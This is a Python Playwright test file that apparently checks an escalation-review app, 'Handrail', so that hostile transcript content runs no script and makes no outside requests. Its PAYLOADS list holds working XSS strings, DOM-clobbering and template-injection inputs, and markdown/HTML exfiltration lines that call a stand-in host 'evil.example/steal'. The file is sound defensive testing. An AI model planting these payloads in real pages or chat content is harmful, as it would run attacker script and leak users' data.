"""Transcripts are written by strangers. A browser that shows them must ask nobody else for anything."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from escalations import transitions
from tests.factories import REFUND, claim, make_case, make_operator

EVIL = "https://evil.example/steal"
PAYLOADS = [
    "<script>window.owned = true</script>",
    f"<img src={EVIL}.png onerror='window.owned = true'>",
    f"![secret]({EVIL}.png?q=secret)",
    f"[![secret]({EVIL}.png)]({EVIL})",
    f'<link rel=stylesheet href="{EVIL}.css"><style>@import url({EVIL}.css);</style>',
    f"<p style='background: url({EVIL}.png)'>x</p>",
    f'<iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><embed src="{EVIL}">',
    "<svg onload='window.owned = true'><a href='javascript:window.owned=true'>x</a></svg>",
    "[click me](javascript:window.owned=true)",
    "[data](data:text/html,<script>window.owned=true</script>)",
    f'<div hx-get="{EVIL}" hx-trigger="load">x</div><form action="{EVIL}"><button>go</button></form>',
    '<div hx-get="/?view=all" hx-trigger="load" hx-on::load="window.owned = true">x</div>',
    f'<meta http-equiv="refresh" content="0; url={EVIL}"><base href="{EVIL}">',
    "</textarea></pre></details><script>window.owned = true</script>",
    "{{ request.user }} {% csrf_token %} ${window.owned = true}",
    "<a id=ask name=decide>clobber</a><input name=csrfmiddlewaretoken>",
]


@pytest.fixture
def foreign_requests(browser_page, live_server):
    found = []
    own = urlsplit(live_server.url).netloc
    browser_page.on(
        "request", lambda request: found.append(request.url) if urlsplit(request.url).netloc != own else None
    )
    return found


@pytest.fixture
def hostile_case(live_server):
    everything = "\n\n".join(PAYLOADS)
    call = {"id": "a", "type": "function", "function": {"name": PAYLOADS[0], "arguments": everything}}
    case = make_case(
        question=PAYLOADS[1],
        summary=everything,
        messages=[
            *(
                {"role": role, "content": payload}
                for payload in PAYLOADS
                for role in ("system", "user", "assistant")
            ),
            {"role": "user", "content": [{"type": "image_url", "image_url": {"url": f"{EVIL}.png"}}]},
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": "a", "content": everything},
        ],
        steps=[{"name": PAYLOADS[0], "checkpoint": {"passed": False, "errors": PAYLOADS}}],
        suggestions=[{"content": everything}],
        pending_actions=[
            REFUND | {"name": PAYLOADS[0], "arguments": {"x": everything}, "description": everything}
        ],
        context={"facts": {PAYLOADS[0]: everything}, "decisions": PAYLOADS, "preferences": {}},
        attachments=[{"uri": f"{EVIL}.png"}],
        metadata={PAYLOADS[1]: everything},
    )
    transitions.add_message(
        case_id=case.id, messages=[{"role": "user", "content": everything}], actor="agent:support"
    )
    return case


def test_hostile_content_runs_nothing_and_asks_nobody(signed_in, foreign_requests, hostile_case):
    operator = make_operator()
    claim(hostile_case, operator)
    page = signed_in(operator)
    for address in (f"/cases/{hostile_case.id}/", "/?view=mine"):
        page.goto(address)
        expect(page.locator("#live-badge")).to_have_text("live")
    page.get_by_role("link").filter(has_text="evil.example").first.click()  # the look from the queue
    expect(page.locator("#peek h1")).to_be_visible()
    page.goto(f"/cases/{hostile_case.id}/")
    page.evaluate("document.querySelectorAll('details').forEach(details => { details.open = true })")
    transitions.add_message(
        case_id=hostile_case.id,
        messages=[{"role": "user", "content": "\n".join(PAYLOADS) + "\n\nlast"}],
        actor="agent:support",
    )
    expect(page.locator("#turns-since .bubble")).to_have_count(2)  # the live update as well
    assert page.evaluate("window.owned") is None
    assert page.title().endswith("Handrail")
    own = "article form:not(#note-form)"
    assert page.locator(f"article iframe, article img, {own}, article style, article script").count() == 0
    assert foreign_requests == []
